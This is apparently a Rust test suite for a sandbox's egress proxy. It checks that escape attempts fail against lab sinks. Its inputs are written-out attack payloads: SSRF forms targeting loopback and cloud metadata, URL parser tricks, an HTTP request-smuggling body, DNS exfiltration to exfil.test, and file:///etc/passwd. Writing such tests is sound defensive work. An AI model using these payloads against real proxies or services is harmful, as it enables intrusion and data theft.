//! Family F: tricks against the egress proxy, from inside the jail, with
//! policy `attack-proxy.json` (allowed: `allowed.test`, `*.allowed.test`,
//! `rebind.test`). The lab resolver maps allowlisted names to every special
//! range; the sinks listen on all of them and on the lab's loopback. The
//! only legitimate sink events are the proxy's DNS queries for allowlisted
//! names and the proxy's upstream dial (0 bytes) to the allowed address
//! before it answers `200`: any byte reaching a sink fails the test.
mod common;
use common::*;
use labspec::{ALLOWED_V4, SinkEvent};
use oajail_security::judge::assert_blocked_allowing;
use oajail_security::verdict::Verdict;

const PROXY: &str = "attack-proxy.json";

/// Legitimate events: the proxy's DNS queries for allowlisted names, and
/// the proxy's upstream dial to the allowed address that precedes its
/// `200` (no client byte may follow it before the SNI check).
fn allowed_dns(ev: &SinkEvent) -> bool {
    let dial = ev.sink == "tcp" && ev.bytes == 0 && ev.local.contains(ALLOWED_V4);
    dial || ev.sink == "dns"
        && ev.name.as_deref().is_some_and(|n| {
            n == "allowed.test" || n.ends_with(".allowed.test") || n == "rebind.test"
        })
}

fn proxy_blocked(id: &str, args: impl FnOnce(&Lab) -> Vec<String>) {
    proxy_blocked_with(id, &RunOptions::default(), args);
}

fn proxy_blocked_with(id: &str, opts: &RunOptions, args: impl FnOnce(&Lab) -> Vec<String>) {
    let mut lab = Lab::new(id);
    let argv = args(&lab);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let run = lab.jailed(PROXY, &argv, opts);
    assert_blocked_allowing(&mut lab, id, &run, &allowed_dns);
}

/// The positive control: an allowed CONNECT with a matching SNI reaches the
/// allowed sink. Without it, every "blocked" below could mean "no proxy".
#[test]
fn control_allowed_connect_reaches_allowed_sink() {
    let lab = Lab::new("control-proxy");
    let run = lab.jailed(
        PROXY,
        &["proxy-connect", "allowed.test:443", "allowed.test"],
        &RunOptions::default(),
    );
    let verdict = run.report.as_ref().map(|r| r.verdict);
    assert_eq!(
        verdict,
        Some(Verdict::Succeeded),
        "{} {}",
        run.stdout,
        run.stderr
    );
    assert!(
        run.events.iter().any(|e| e.sink == "tcp"
            && e.local.contains(ALLOWED_V4)
            && e.name.as_deref() == Some("allowed.test")),
        "{:?}",
        run.events
    );
}

#[test]
fn blocks_sni_mismatch() {
    proxy_blocked("F1-sni-mismatch", |_| {
        argv!["proxy-connect", "allowed.test:443", "evil.test"]
    });
}

#[test]
fn blocks_sni_of_another_allowed_host() {
    proxy_blocked("F1-sni-other-allowed", |_| {
        argv!["proxy-connect", "www.allowed.test:443", "api.allowed.test"]
    });
}

#[test]
fn blocks_missing_sni() {
    proxy_blocked("F1-no-sni", |_| {
        argv!["proxy-connect", "allowed.test:443", "-"]
    });
}

#[test]
fn blocks_non_tls_in_tls_tunnel() {
    proxy_blocked("F1-not-tls", |_| {
        argv!["proxy-connect", "allowed.test:443", "raw"]
    });
}

#[test]
fn blocks_connect_to_ip_literal_with_allowed_sni() {
    proxy_blocked("F3-ip-literal", |_| {
        argv!["proxy-connect", format!("{ALLOWED_V4}:443"), "allowed.test"]
    });
}

#[test]
fn blocks_plain_http_host_mismatch() {
    proxy_blocked("F4-host-mismatch", |_| {
        argv!["proxy-get", "http://evil.test/", "allowed.test"]
    });
}

#[test]
fn blocks_origin_form_request() {
    proxy_blocked("F4-origin-form", |_| {
        argv![
            "proxy-raw",
            "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"
        ]
    });
}

#[test]
fn blocks_numeric_ip_forms() {
    for (n, form) in [
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "127.1",
        "127.0.0.1.",
        "017700000001",
    ]
    .iter()
    .enumerate()
    {
        proxy_blocked(&format!("F5-numeric-{n}"), |_| {
            argv!["proxy-connect", format!("{form}:443"), "allowed.test"]
        });
    }
}

#[test]
fn blocks_ipv6_forms() {
    let forms = [
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[64:ff9b::a9fe:a9fe]",
        "[2002:a9fe:a9fe::]",
        "[fd00:ec2::254]",
        "[fe80::1%25lo]",
        "[::ffff:169.254.169.254]",
    ];
    for (n, form) in forms.iter().enumerate() {
        proxy_blocked(&format!("F6-ipv6-{n}"), |_| {
            argv!["proxy-connect", format!("{form}:443"), "allowed.test"]
        });
    }
}

#[test]
fn blocks_metadata_literal() {
    proxy_blocked("F7-metadata-literal", |_| {
        argv!["proxy-get", "http://169.254.169.254/latest/meta-data/", "-"]
    });
}

#[test]
fn blocks_allowed_names_resolving_to_metadata() {
    for name in ["metadata", "ecs", "alibaba", "azure"] {
        proxy_blocked(&format!("F7-{name}-by-name"), |_| {
            argv![
                "proxy-connect",
                format!("{name}.allowed.test:443"),
                format!("{name}.allowed.test")
            ]
        });
    }
}

#[test]
fn blocks_allowed_names_resolving_to_private_ranges() {
    for name in [
        "private",
        "private172",
        "private192",
        "cgnat",
        "loopback",
        "zero",
    ] {
        proxy_blocked(&format!("F8-{name}"), |_| {
            argv![
                "proxy-connect",
                format!("{name}.allowed.test:443"),
                format!("{name}.allowed.test")
            ]
        });
    }
}

/// Rebinding: the lab resolver answers public, then 127.0.0.1, alternately.
/// Connections to the public address are legitimate; loopback must never be reached.
#[test]
fn blocks_dns_rebinding() {
    let id = "F9-rebinding";
    let mut lab = Lab::new(id);
    let opts = RunOptions {
        dns: labspec::DnsMode::Rebind,
        ..RunOptions::default()
    };
    for _ in 0..4 {
        let run = lab.jailed(
            PROXY,
            &["proxy-connect", "rebind.test:443", "rebind.test"],
            &opts,
        );
        let allow =
            |ev: &SinkEvent| allowed_dns(ev) || (ev.sink == "tcp" && ev.local.contains(ALLOWED_V4));
        let bad: Vec<_> = run.events.iter().filter(|e| !allow(e)).collect();
        if !bad.is_empty() || run.report.is_none() {
            assert_blocked_allowing(&mut lab, id, &run, &allow);
            return;
        }
    }
    // Every run reached only the checked public address: record the block.
    let run = lab.jailed(
        PROXY,
        &["proxy-connect", "rebind.test:443", "evil.test"],
        &opts,
    );
    assert_blocked_allowing(&mut lab, id, &run, &allowed_dns);
}

#[test]
fn blocks_userinfo_and_parser_differentials() {
    let urls = [
        "http://allowed.test@evil.test/",
        "http://allowed.test:80@evil.test/",
        "http://evil.test#@allowed.test/",
        "http://evil.test\\@allowed.test/",
        "http://evil.test%2f@allowed.test/",
        "http://evil.test%00.allowed.test/",
    ];
    for (n, url) in urls.iter().enumerate() {
        proxy_blocked(&format!("F10-url-{n}"), |_| argv!["proxy-get", url, "-"]);
    }
}

#[test]
fn blocks_allowed_host_on_other_ports() {
    for port in [22, 25, 6379] {
        proxy_blocked(&format!("F11-port-{port}"), |_| {
            argv!["proxy-connect", format!("allowed.test:{port}"), "raw"]
        });
    }
}

#[test]
fn blocks_socks_to_denied_host() {
    proxy_blocked("F14-socks-denied", |_| {
        argv!["socks", "connect", "evil.test:443"]
    });
}

#[test]
fn blocks_socks_ip_literal() {
    proxy_blocked("F14-socks-ip-literal", |_| {
        argv!["socks", "connect", format!("{ALLOWED_V4}:443")]
    });
}

#[test]
fn blocks_socks_bind() {
    proxy_blocked("F14-socks-bind", |_| {
        argv!["socks", "bind", "allowed.test:443"]
    });
}

#[test]
fn blocks_socks_udp_associate() {
    proxy_blocked("F14-socks-udp", |_| {
        argv!["socks", "udp", "allowed.test:443"]
    });
}

#[test]
fn blocks_non_http_schemes() {
    for (n, url) in [
        "ftp://allowed.test/x",
        "gopher://allowed.test/",
        "file:///etc/passwd",
    ]
    .iter()
    .enumerate()
    {
        proxy_blocked(&format!("F16-scheme-{n}"), |_| argv!["proxy-get", url, "-"]);
    }
}

#[test]
fn blocks_dns_exfil_through_proxy() {
    proxy_blocked("E3-proxy-resolves-denied-name", |l| {
        argv![
            "proxy-connect",
            format!("{}.exfil.test:443", l.token),
            "raw"
        ]
    });
}

/// F15: the proxy's listener lives in the jail's network namespace, so a
/// host process (here: in the lab namespace, next to oajail) cannot use it
/// as an open proxy while a jail runs.
#[test]
fn blocks_host_process_using_the_proxy() {
    let id = "F15-host-uses-proxy";
    let mut lab = Lab::new(id);
    let policy = lab.policy(PROXY);
    let script = format!(
        "{oajail} -s {policy} -- /bin/sleep 3 & sleep 1; {probe} tcp-connect 127.0.0.1 3128; wait",
        oajail = lab.tools.oajail.display(),
        probe = lab.tools.probe.display(),
    );
    let run = lab.run(
        vec!["/bin/sh".into(), "-c".into(), script],
        &RunOptions::default(),
    );
    assert_blocked_allowing(&mut lab, id, &run, &allowed_dns);
}

/// Run a raw request and require the proxy's status line to carry `status`
/// (a refusal the client can see), on top of the usual "no byte reached a
/// sink" judgement (which is what "no second upstream request" means here).
fn raw_refused_with(id: &str, status: &str, text: &str) {
    let mut lab = Lab::new(id);
    let run = lab.jailed(PROXY, &["proxy-raw", text], &RunOptions::default());
    let detail = run
        .report
        .as_ref()
        .map(|r| r.detail.clone())
        .unwrap_or_default();
    assert!(
        detail.contains(&format!(" {status} ")),
        "{id}: expected a {status} from the proxy, probe said {detail:?}; {}",
        run.stderr
    );
    assert_blocked_allowing(&mut lab, id, &run, &allowed_dns);
}

/// F13: Content-Length and Transfer-Encoding together, with a second
/// request to a denied host hidden in the body: 400, nothing forwarded.
#[test]
fn blocks_cl_te_request_smuggling() {
    raw_refused_with(
        "F13-cl-te",
        "400",
        "POST http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
    );
}

/// F13: `Upgrade: h2c` to an allowed host is refused before any upstream
/// connection (an h2c tunnel would be opaque to the per-request checks).
#[test]
fn blocks_h2c_upgrade() {
    raw_refused_with(
        "F13-h2c-upgrade",
        "403",
        "GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\\r\\n\\r\\n",
    );
}

/// F13: CONNECT to an allowed host, then a second CONNECT (to a denied
/// host) as the first bytes of the tunnel: not a TLS ClientHello, so the
/// proxy closes the tunnel before the allowed sink sees a byte.
#[test]
fn blocks_connect_in_connect() {
    proxy_blocked("F13-connect-in-connect", |_| {
        argv!["proxy-connect", "allowed.test:443", "connect:evil.test:443"]
    });
}

/// Sink events to the allowed address carrying SNI `allowed.test`: the
/// documented residuals below deliberately reach it.
fn allowed_tunnel(ev: &SinkEvent) -> bool {
    allowed_dns(ev)
        || ev.sink == "tcp"
            && ev.local.contains(ALLOWED_V4)
            && ev.name.as_deref() == Some("allowed.test")
}

/// F2, documented residual (docs/threat-model.md): without TLS
/// termination the proxy sees the SNI, never the `Host` header inside the
/// encrypted stream. After a ClientHello for `allowed.test` the tunnel is
/// opaque, so a request naming `Host: evil.test` (plain bytes here,
/// standing in for the encrypted request) reaches the allowed host. The
/// test asserts that, and that the SNI check still holds: the same bytes
/// behind an SNI of `evil.test` are refused (F1).
#[test]
fn residual_host_header_fronting_inside_tls() {
    let id = "F2-host-fronting-in-tls";
    let mut lab = Lab::new(id);
    let sni_check = lab.jailed(
        PROXY,
        &["proxy-connect", "allowed.test:443", "evil.test"],
        &RunOptions::default(),
    );
    let sni_holds = sni_check
        .report
        .as_ref()
        .is_some_and(|r| r.verdict == Verdict::Blocked)
        && sni_check
            .events
            .iter()
            .all(|e| e.bytes == 0 || e.sink == "dns");
    let run = lab.jailed(
        PROXY,
        &["proxy-connect", "allowed.test:443", "front:evil.test"],
        &RunOptions::default(),
    );
    let fronted = run
        .events
        .iter()
        .any(|e| e.name.as_deref() == Some("allowed.test") && e.data.contains("Host: evil.test"));
    oajail_security::judge::assert_residual_allowing(
        &mut lab,
        id,
        &run,
        &allowed_tunnel,
        sni_holds && fronted,
        &format!(
            "SNI evil.test refused: {sni_holds}; Host: evil.test behind SNI allowed.test reached the allowed host: {fronted}"
        ),
    );
}

/// F12, documented residual (docs/threat-model.md): an allowed domain can
/// itself be a sink (uploads, gists, webhooks). The proxy cannot tell an
/// upload from a download, so 16 KiB go out to `allowed.test`; what the
/// suite asserts is the audit trail: the `--log-json` decision log has a
/// `close` record for the tunnel with `bytes_up` of at least 16 KiB.
#[test]
fn residual_upload_to_allowed_domain_is_audited() {
    let id = "F12-allowed-domain-upload";
    let mut lab = Lab::new(id);
    let log = lab.path("decisions.jsonl");
    let opts = RunOptions {
        oajail_args: vec!["--log-json".into(), log.clone()],
        ..RunOptions::default()
    };
    let run = lab.jailed(
        PROXY,
        &["proxy-connect", "allowed.test:443", "upload:16384"],
        &opts,
    );
    let uploaded = run
        .events
        .iter()
        .any(|e| e.name.as_deref() == Some("allowed.test") && e.bytes >= 16384);
    let text = std::fs::read_to_string(&log).unwrap_or_default();
    let audited = text
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .any(|v| {
            v["event"] == "close"
                && v["host"] == "allowed.test"
                && v["bytes_up"].as_u64().is_some_and(|n| n >= 16384)
        });
    oajail_security::judge::assert_residual_allowing(
        &mut lab,
        id,
        &run,
        &allowed_tunnel,
        uploaded && audited,
        &format!(
            "16 KiB reached allowed.test: {uploaded}; decision log has bytes_up >= 16384: {audited}"
        ),
    );
}

/// E3e: DNS over HTTPS / TLS through a public resolver that is not on the
/// allowlist: the CONNECT is refused before any DNS (a query for the
/// resolver's name would be a sink event `allowed_dns` rejects), and
/// nothing reaches a sink. A policy that allows a DoH endpoint turns it
/// into F12 (an allowed domain that is a sink): docs/threat-model.md.
#[test]
fn blocks_doh_and_dot_to_unlisted_resolvers() {
    for target in ["dns.google:443", "cloudflare-dns.com:443", "dns.google:853"] {
        let lab = Lab::new("E3e-doh-dot");
        let host = target.split(':').next().unwrap_or(target);
        let run = lab.jailed(
            PROXY,
            &["proxy-connect", target, host],
            &RunOptions::default(),
        );
        let verdict = run.report.as_ref().map(|r| r.verdict);
        assert_eq!(verdict, Some(Verdict::Blocked), "{target}: {}", run.stderr);
        assert!(
            run.events.iter().all(allowed_dns),
            "{target}: {:?}",
            run.events
        );
    }
    proxy_blocked("E3e-doh-dot", |_| {
        argv!["proxy-connect", "dns.google:443", "dns.google"]
    });
}

/// F17: the lab's resolv.conf has `search corp.test`, and
/// `nx.allowed.test.corp.test` resolves to the evil sink. `nx.allowed.test`
/// is allowed (by `*.allowed.test`) but does not exist: the proxy must
/// resolve it as an absolute name and fail, never as a name in the search
/// domain (the DNS query for it is an event outside `*.allowed.test`).
#[test]
fn blocks_names_resolved_through_the_search_list() {
    proxy_blocked("F17-dns-search-list", |_| {
        argv!["proxy-get", "http://nx.allowed.test/", "-"]
    });
}

/// F18: `localhost` in allowedDomains. srt lets it reach every port of the
/// host's loopback; oajail keeps the loopback closed (the lab's loopback
/// has sinks on 8080) and its refusal says how to allow one port.
#[test]
fn localhost_stays_closed_and_says_how_to_allow_a_port() {
    let id = "F18-localhost-allowed";
    let mut lab = Lab::new(id);
    let run = lab.jailed(
        "attack-localhost.json",
        &["proxy-get", "http://localhost:8080/", "-"],
        &RunOptions::default(),
    );
    let hint = "add \"127.0.0.1:8080\" to network.allowedDomains";
    assert!(
        run.stderr.contains(hint) || run.stdout.contains(hint),
        "the refusal does not say how to allow the port: {} {}",
        run.stdout,
        run.stderr
    );
    assert_blocked(&mut lab, id, &run);
}

/// F19: `localroute.allowed.test` resolves to 5.5.5.5, which the lab
/// accepts through `local 5.5.5.0/24 dev lo`: on no interface, public by
/// its range, yet the host itself (the sinks listen there). The proxy must
/// refuse once it sees the connection never left the host.
#[test]
fn blocks_allowed_names_reaching_the_host_through_a_local_route() {
    proxy_blocked("F19-local-route", |_| {
        argv!["proxy-get", "http://localroute.allowed.test:8080/", "-"]
    });
}

/// F20: plain HTTP through the SOCKS port gets the HTTP proxy's answer for
/// the same entry. `allowed.test` (no port) lets the HTTP proxy forward
/// `GET http://allowed.test/`, so a SOCKS tunnel to `allowed.test:80`
/// carrying that request reaches it too (checked first: it must not be
/// refused); the same tunnel with `Host: evil.test` is refused, as the
/// HTTP proxy never sends a Host other than the URL's.
#[test]
fn socks_plain_http_answers_as_the_http_proxy() {
    let lab = Lab::new("control-socks-plain-http");
    let run = lab.jailed(
        PROXY,
        &["socks", "http", "allowed.test:80"],
        &RunOptions::default(),
    );
    assert_eq!(
        run.report.as_ref().map(|r| r.verdict),
        Some(Verdict::Succeeded),
        "plain http through socks refused where the http proxy forwards it: {} {}",
        run.stdout,
        run.stderr
    );
    drop(lab);
    proxy_blocked("F20-socks-plain-http-host", |_| {
        argv!["socks", "http-front", "allowed.test:80"]
    });
}
